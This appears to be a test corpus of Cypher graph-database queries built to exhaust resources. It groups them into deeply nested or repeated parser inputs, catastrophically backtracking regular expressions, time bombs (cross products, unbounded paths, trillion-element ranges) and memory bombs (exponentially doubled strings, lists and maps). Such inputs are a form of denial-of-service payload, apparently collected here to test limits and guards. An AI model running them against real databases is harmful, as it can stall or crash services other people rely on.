RETURN <<repeat 4500: 1 + >>1 AS x
// -- a long chain of OR
MATCH (n) WHERE <<repeat 1200: n.id = 'x' OR >>false RETURN n
// -- CASE within CASE
RETURN <<repeat 700: CASE WHEN true THEN >>1<<repeat 700:  END>> AS x
// -- a chain of XOR, whose plan takes twice as long for each
RETURN <<repeat 100: true XOR >>true AS x
// -- a long chain of CASE
RETURN CASE <<repeat 900: WHEN 1 = 2 THEN 'never' >>ELSE 0 END AS x
// -- a long chain of comparisons
RETURN <<repeat 4500: 1 < >>2 AS x
// -- a long chain of indices
RETURN [1]<<repeat 6000: [0]>> AS x
// -- a long chain of properties
WITH {a: 1} AS m RETURN m<<repeat 9000: .a>> AS x
// -- a long chain of labels
MATCH (n<<repeat 2700: :Notice>>) RETURN n
// -- a long chain of negated labels
MATCH (n:<<repeat 18000: !>>Notice) RETURN n
// -- many parameters
RETURN [<<repeat 6000: $p,>>$p] AS xs
// -- a long pattern
MATCH (a)<<repeat 3500: -->()>> RETURN count(*)
// -- a long name
RETURN 1 AS <<repeat 25000: x>>
// -- a long number
RETURN <<repeat 25000: 9>> AS x
// -- many blanks
RETURN<<repeat 40000:  >>1

// == regular expressions
// -- a cross product with a regular expression
MATCH (a:Activity), (b:Activity), (c:Slogan) WHERE a.text =~ ('.*' + c.text + '.*') AND b.text CONTAINS c.text RETURN count(*)
// -- a regular expression that goes back
RETURN reduce(s = '', i IN range(1, 40) | s + 'a') + '!' =~ '(a+)+b' AS x
// -- a regular expression that goes back on every text
MATCH (n:Notice) WHERE n.text =~ '(.*)*(.*)*(.*)*[^\\s\\S]' RETURN count(n)
// -- many regular expressions that go back
UNWIND range(1, 100000) AS i WITH reduce(s = '', j IN range(1, 30) | s + 'a') AS t, i WHERE t + toString(i) =~ '(a|aa)+$' RETURN count(*)
// -- back references
RETURN reduce(s = '', i IN range(1, 5000) | s + 'ab') =~ '(.+)\\1*(.+)\\2*(.+)\\3*c' AS x
// -- alternatives that overlap
MATCH (n:Notice) WHERE n.text =~ '(?s)(质|量|质量|.)+(质|量|.)+X' RETURN n.id
// -- a quantifier on a quantifier
MATCH (n:Notice) WHERE n.text =~ '(?s)((.{1,50}){1,50}){1,50}X' RETURN n.id
// -- a lookahead in a repetition
MATCH (n:Notice) WHERE n.text =~ '(?s)((?=.*质).+)+X' RETURN n.id
// -- an expression put together of pieces
MATCH (n:Notice) WHERE n.text =~ '(.' + '+)+X' RETURN n.id
// -- an expression of the data
MATCH (n:Notice), (s:Slogan) WHERE n.text =~ s.text RETURN n.id
// -- an expression from a list
WITH ['(a+)+b'] AS xs UNWIND xs AS x MATCH (n:Notice) WHERE n.text =~ x RETURN n.id

// == bombs of time
// -- a cross product of everything
MATCH (a), (b), (c) RETURN sum(size(a.id))
// -- a cross product without counting from a store
MATCH (a), (b), (c) WHERE a.id < b.id AND b.id < c.id RETURN count(*) AS n
// -- a cross product of edges
MATCH (a)-->(b), (c)-->(d) WHERE a.id < d.id AND b.id > c.id RETURN count(*)
// -- a cross product in separate clauses
MATCH (a:Region) MATCH (b:Region) MATCH (c:Region) WHERE a.name + b.name = c.name + 'x' RETURN count(*)
// -- unbounded paths
MATCH p = (a)-[*]-(b) RETURN count(p)
// -- long paths from one node
MATCH p = (:Agency {id: 'samr'})-[*1..20]-() RETURN count(p)
// -- paths between two nodes
MATCH p = (:Agency {id: 'samr'})-[*]-(:Agency {id: 'cmiqma'}) RETURN max(length(p))
// -- paths of a single type
MATCH p = (:Region)-[:CHANGED_INTO|WITHIN*]-(:Region) RETURN count(p)
// -- a path with a condition that never holds
MATCH p = (a:Agency)-[*..12]-(b:Agency) WHERE all(n IN nodes(p) WHERE n.id <> '') AND length(p) > 100 RETURN p
// -- shortest paths between all pairs
MATCH (a:Actor), (b:Actor) WHERE a.id < b.id MATCH p = shortestPath((a)-[*]-(b)) RETURN sum(length(p))
// -- all shortest paths between all pairs
MATCH (a:Region), (b:Region) WHERE a.id < b.id MATCH p = allShortestPaths((a)-[*..10]-(b)) RETURN count(p)
// -- a shortest path with a condition that never holds
MATCH (a:Agency {id: 'samr'}), (b:Region {id: '110000'}) MATCH p = shortestPath((a)-[*..30]-(b)) WHERE length(p) > 15 RETURN p
// -- a long range
UNWIND range(1, 1000000000000) AS x RETURN count(x)
// -- a long range with a condition
UNWIND range(1, 100000000000) AS x WITH x WHERE x % 7 = 8 RETURN x
// -- nested UNWIND
UNWIND range(1, 10000) AS a UNWIND range(1, 10000) AS b UNWIND range(1, 10000) AS c RETURN count(*)
// -- nested UNWIND with arithmetic
UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN sum(sqrt(a * b)) AS s
// -- nested list comprehensions
RETURN size([a IN range(1, 3000) WHERE size([b IN range(1, 3000) WHERE size([c IN range(1, 3000) WHERE c = a + b]) > 0]) > 0]) AS n
// -- any within any
RETURN any(a IN range(1, 5000) WHERE any(b IN range(1, 5000) WHERE any(c IN range(1, 5000) WHERE a * b * c = -1))) AS x
// -- all within all
RETURN all(a IN range(1, 5000) WHERE all(b IN range(1, 5000) WHERE none(c IN range(1, 5000) WHERE a + b + c < 0))) AS x
// -- reduce within reduce
RETURN reduce(s = 0, a IN range(1, 5000) | s + reduce(t = 0, b IN range(1, 5000) | t + reduce(u = 0, c IN range(1, 5000) | u + a * b % (c + 1)))) AS s
// -- a single reduce over a long range
RETURN reduce(s = 0, a IN range(1, 10000000000) | (s * 31 + a) % 1000003) AS s
// -- a comprehension over a long range
RETURN size([x IN range(1, 10000000000) WHERE x % 2 = 3]) AS n
// -- each counted for each
MATCH (a:Region) RETURN sum(COUNT { MATCH (b:Region), (c:Region) WHERE b.name + c.name = a.name }) AS n
// -- each looked for in each
MATCH (a:Claim) WHERE NOT EXISTS { MATCH (b:Claim), (c:Claim) WHERE b.id + c.id = a.id } RETURN count(a)
// -- each collected for each
MATCH (a:Region) RETURN max(size(COLLECT { MATCH (b:Region) WHERE b.name CONTAINS a.name RETURN b.id + a.id })) AS n
// -- a subquery for each pair
MATCH (a:Region), (b:Region) CALL (a, b) { MATCH (c:Region) WHERE c.id > a.id + b.id RETURN count(c) AS n } RETURN sum(n)
// -- sorting of a cross product
MATCH (a:Region), (b:Region) RETURN a.name + b.name AS name ORDER BY reverse(name), size(name) LIMIT 1
// -- distinct pairs
MATCH (a:Region), (b:Region) RETURN count(DISTINCT a.name + b.name) AS n
// -- grouping by pairs
MATCH (a:Region), (b:Region) WITH left(a.name, 1) + right(b.name, 1) AS k, count(*) AS n ORDER BY n DESC RETURN k, n LIMIT 3
// -- products that depend upon each other
UNWIND range(1, 30) AS a UNWIND range(1, a * 1000) AS b UNWIND range(1, b) AS c WITH a, b, c WHERE a + b = -c RETURN count(*)
// -- unions that each take long
MATCH (a:Region), (b:Region) WHERE a.id + 'x' = b.id RETURN count(*) AS n UNION ALL MATCH (a:Claim), (b:Claim) WHERE a.id + 'x' = b.id RETURN count(*) AS n
// -- pattern comprehensions over everything
MATCH (a:Region) RETURN sum(size([(a)-[*1..6]-(b) | b.id])) AS n
// -- cliques
MATCH (a:Agency)--(x)--(b:Agency)--(y)--(c:Agency)--(z)--(d:Agency)--(v)--(a) RETURN count(*)
// -- text compared with text
MATCH (a:Notice), (b:Notice) UNWIND range(0, size(a.text)) AS i UNWIND range(1, 200) AS l WITH a, b, substring(a.text, i, l) AS s WHERE b.text CONTAINS s RETURN max(size(s))

// == bombs of memory
// -- a string doubled
RETURN size(reduce(s = 'x', i IN range(1, 40) | s + s)) AS n
// -- a list doubled
RETURN size(reduce(l = [1], i IN range(1, 40) | l + l)) AS n
// -- maps within maps
RETURN reduce(m = {}, i IN range(1, 60) | {a: m, b: m}) AS m
// -- lists within lists, returned
RETURN reduce(l = [1], i IN range(1, 60) | [l, l]) AS l
// -- a string doubled row by row
WITH 'xxxxxxxxxxxxxxxx' AS a WITH a + a + a + a AS b WITH b + b + b + b AS c WITH c + c + c + c AS d WITH d + d + d + d AS e WITH e + e + e + e AS f WITH f + f + f + f AS g WITH g + g + g + g AS h WITH h + h + h + h AS i WITH i + i + i + i AS j WITH j + j + j + j AS k WITH k + k + k + k AS l RETURN size(l + l + l + l) AS n
// -- a long range collected
UNWIND range(1, 1000000000) AS x RETURN size(collect(x)) AS n
// -- a long range as a list
WITH range(1, 1000000000) AS xs RETURN size(xs + [1]) AS n
// -- a long range changed
RETURN size([x IN range(1, 1000000000) | toString(x)]) AS n
// -- a long range reversed
RETURN head(reverse(range(1, 2000000000))) AS x
// -- a cross product collected
MATCH (a:Region), (b:Region) RETURN size(collect(a.name + b.name)) AS n
// -- a cross product of nodes collected
MATCH (a:Claim), (b:Claim) RETURN size(collect({a: a, b: b})) AS n
// -- a cross product sorted
MATCH (a:Claim), (b:Claim) WITH a.content + b.content AS c ORDER BY c SKIP 10000000 RETURN c LIMIT 1
// -- a cross product of distinct rows
MATCH (a:Claim), (b:Claim) RETURN DISTINCT a.id + b.id AS id ORDER BY id DESC LIMIT 1
// -- a text replaced by a longer one
WITH reduce(s = 'x', i IN range(1, 20) | s + s) AS s RETURN size(replace(s, 'x', s)) AS n
// -- replacements of replacements
RETURN size(reduce(s = 'xx', i IN range(1, 8) | replace(s, 'x', s))) AS n
// -- a text in pieces
WITH reduce(s = 'x', i IN range(1, 28) | s + s) AS s RETURN size(split(s, '')) AS n
// -- every part of a text
MATCH (n:Notice) WITH n.text AS t UNWIND range(0, size(t)) AS i UNWIND range(i, size(t)) AS j RETURN size(collect(substring(t, i, j - i))) AS n
// -- one row of huge size
MATCH (n:Notice) WITH collect(n.text) AS ts RETURN [i IN range(1, 100000) | ts] AS big
// -- one huge string returned
MATCH (n:Notice) WITH n.text AS t LIMIT 1 RETURN reduce(s = t, i IN range(1, 18) | s + s) AS big
// -- many rows
UNWIND range(1, 20000000) AS x RETURN x, toString(x) + ' is a row' AS text
// -- many rows of large texts
MATCH (n:Notice), (c:Claim), (d:Claim) RETURN n.text AS text, c, d
// -- all of the graph in one row
MATCH (a)-[r]->(b) RETURN collect([a, r, b]) AS graph
// -- all of the graph for each node
MATCH (n) WITH collect(n) AS ns UNWIND ns AS n RETURN n, ns
// -- a map for each number, kept
UNWIND range(1, 10000000) AS x WITH collect({x: x, y: [x, x, x], z: 'n' + toString(x)}) AS ms UNWIND ms AS m RETURN max(m.x) AS n
// -- groups of their own
UNWIND range(1, 20000000) AS x WITH toString(x) AS k, count(*) AS n RETURN max(k), sum(n)
// -- paths collected
MATCH p = (:Agency)-[*1..6]-() RETURN size(collect(p)) AS n
// -- pattern comprehensions collected
MATCH (a:Region) WITH a, [(a)-[*1..4]-(b) | b] AS bs RETURN collect(bs) AS all_of_them
// -- a union of large answers
UNWIND range(1, 20000000) AS x RETURN toString(x) AS s UNION UNWIND range(1, 20000000) AS y RETURN toString(-y) AS s
// -- numbers as text
RETURN size(reduce(s = '', i IN range(1, 20000000) | s + toString(i))) AS n
// -- percentiles of everything
UNWIND range(1, 20000000) AS x UNWIND range(1, 100) AS y RETURN percentileCont(x * y, 0.5) AS median
